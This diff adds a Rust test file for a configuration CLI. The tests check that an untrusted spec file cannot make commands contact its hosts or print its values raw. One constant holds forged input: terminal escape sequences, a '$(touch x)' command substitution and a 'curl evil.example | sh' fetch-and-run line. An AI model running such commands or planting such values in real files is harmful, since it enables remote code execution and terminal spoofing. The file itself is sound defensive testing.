@@ -1,0 +1,110 @@
+//! A folder whose `amw-rw.yaml` was written by a stranger: no command sends anything to its hosts, or shows its text as it is.
+
+use std::io::ErrorKind;
+use std::net::TcpListener;
+
+use super::files::FACTS;
+use super::verdict::is_obeyed;
+use crate::support::World;
+
+/// In a double-quoted scalar of YAML.
+const FORGED: &str =
+    r#"a\e[2J\a\r\x7f\u009b31m\u202e'\"`;$(touch x)\n  next:    curl evil.example | sh\n"#;
+
+const SIDECAR: &str = "\
+remote_write:
+  - url: http://localhost:8081/api/v1/write
+global:
+  external_labels: {cluster: prod}
+";
+
+/// Commands that can meet such a file.
+const COMMANDS: [&str; 9] = [
+    "render --target prometheus-yml FACTS",
+    "render --target custom-resource --prometheus monitoring/k8s FACTS",
+    "render --target prometheus-yml --companions FACTS",
+    "migrate --input sidecar.yml --auth user-identity --client-id 11111111-1111-1111-1111-111111111111 --diff",
+    "migrate --prometheus release:x",
+    "doctor",
+    "doctor -o json",
+    "apply --yes",
+    "init --yes",
+];
+
+#[test]
+fn no_command_sends_anything_to_the_hosts_of_a_found_spec() {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let host = format!("http://{}", listener.local_addr().unwrap());
+    for field in [
+        "resource-manager-endpoint",
+        "authority",
+        "graph-endpoint",
+        "instance-metadata-endpoint",
+    ] {
+        let spec = format!("{field}: {host}\nconnections:\n- cluster: aks-prod\n");
+        let world = World::new()
+            .file("amw-rw.yaml", &spec)
+            .file("sidecar.yml", SIDECAR)
+            .variable("AZURE_TENANT_ID", "22222222-2222-2222-2222-222222222222")
+            .variable("AZURE_CLIENT_ID", "33333333-3333-3333-3333-333333333333")
+            .variable("AZURE_CLIENT_SECRET", "value-of-the-secret");
+        for command in COMMANDS {
+            let outcome = world.run_alone(&command.replace("FACTS", FACTS));
+
+            judge(outcome.stderr(), outcome.stdout(), command);
+        }
+    }
+    listener.set_nonblocking(true).unwrap();
+    let asked = listener.accept().map(drop).map_err(|error| error.kind());
+    assert_eq!(asked, Err(ErrorKind::WouldBlock));
+}
+
+#[test]
+fn no_value_of_a_found_spec_reaches_a_terminal_as_it_is() {
+    for field in [
+        "subscription",
+        "tenant",
+        "cluster",
+        "prometheus",
+        "cluster-label",
+        "workspace",
+        "region",
+        "auth",
+        "queue",
+        "input",
+        "out",
+        "a\\e[2Jb",
+    ] {
+        let line = format!("\"{field}\": \"{FORGED}\"");
+        let spec = match field {
+            "subscription" | "tenant" => format!("{line}\nconnections:\n- cluster: aks-prod\n"),
+            _ => format!("connections:\n- {line}\n"),
+        };
+        let mut world = World::new()
+            .file("amw-rw.yaml", &spec)
+            .file("sidecar.yml", SIDECAR);
+        for command in COMMANDS {
+            let outcome = world.run(&command.replace("FACTS", FACTS));
+
+            judge(
+                outcome.stderr(),
+                outcome.stdout(),
+                &format!("{field}, {command}"),
+            );
+        }
+        assert!(!world.path("x").exists());
+    }
+}
+
+#[track_caller]
+fn judge(stderr: &str, stdout: &str, what: &str) {
+    for text in [stderr, stdout] {
+        let obeyed = text.chars().find(is_obeyed);
+        assert_eq!(obeyed, None, "{what}: {text:?}");
+        let is_forged = |line: &str| line.trim_start().starts_with("next:    curl");
+        assert!(!text.lines().any(is_forged), "{what}: {text}");
+    }
+    assert!(!stderr.contains("fault of its own"), "{what}: {stderr}");
+    let has_next = !stderr.contains("error:") || stderr.contains("next:");
+    assert!(has_next, "{what}: {stderr}");
+}
